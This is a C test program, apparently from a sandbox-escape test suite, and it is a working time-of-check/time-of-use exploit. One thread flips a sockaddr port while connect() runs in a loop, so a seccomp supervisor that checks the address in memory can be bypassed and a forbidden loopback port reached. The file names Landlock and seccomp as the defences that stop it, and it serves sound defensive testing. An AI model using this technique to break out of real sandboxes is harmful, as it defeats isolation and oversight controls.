/*
 * Route: time-of-check/time-of-use race on the sockaddr argument. A thread keeps rewriting the
 * port of one sockaddr_in between an allowed and a forbidden loopback port while the main
 * thread calls connect() with it over and over (up to SECONDS, default 3) and reads the banner.
 * The forbidden port's server answers with the secret marker. A supervisor that checks the
 * sockaddr in guest memory and answers CONTINUE lets the kernel re-read it after the check.
 * Stopped by: Landlock TCP connect rules (checked on the address the kernel uses); seccomp on
 * socket() families (strict allows only AF_UNIX, so socket() already fails there).
 */
#include "escape.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdatomic.h>
#include <sys/socket.h>
#include <time.h>

static struct sockaddr_in address;
static in_port_t allowed_port, forbidden_port;
static atomic_int running = 1;

static void *flip(void *unused) {
    (void) unused;
    volatile in_port_t *port = &address.sin_port;
    while (atomic_load_explicit(&running, memory_order_relaxed)) {
        *port = forbidden_port;
        *port = allowed_port;
    }
    return NULL;
}

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

int main(int argc, char **argv) {
    if (argc < 3 || argc > 4) {
        usage_exit("race_connect ALLOWED_PORT FORBIDDEN_PORT [SECONDS]");
    }
    attempt("race-connect");
    allowed_port = htons(atoi(argv[1]));
    forbidden_port = htons(atoi(argv[2]));
    double seconds = argc == 4 ? atof(argv[3]) : 3.0;
    address.sin_family = AF_INET;
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    address.sin_port = allowed_port;

    pthread_t flipper;
    int error = pthread_create(&flipper, NULL, flip, NULL);
    if (error != 0) {
        blocked_with("pthread_create", error);
    }
    long connected = 0, failed = 0;
    int last_errno = 0;
    double deadline = now() + seconds;
    char banner[256];
    while (now() < deadline) {
        int s = socket(AF_INET, SOCK_STREAM, 0);
        if (s < 0) {
            atomic_store(&running, 0);
            blocked("socket");
        }
        if (connect(s, (struct sockaddr *) &address, sizeof address) != 0) {
            failed++;
            last_errno = errno;
            close(s);
            continue;
        }
        connected++;
        ssize_t length = read_some(s, banner, sizeof banner);
        close(s);
        if (is_secret(banner, length)) {
            atomic_store(&running, 0);
            pthread_join(flipper, NULL);
            say("connects: %ld, %ld failed", connected, failed);
            escaped("connected to the forbidden port by flipping the sockaddr during connect", banner, length);
        }
    }
    atomic_store(&running, 0);
    pthread_join(flipper, NULL);
    say("connects: %ld to the allowed port, %ld failed", connected, failed);
    blocked_with(connected == 0 ? "connect" : "connect-forbidden", last_errno != 0 ? last_errno : ECONNREFUSED);
}
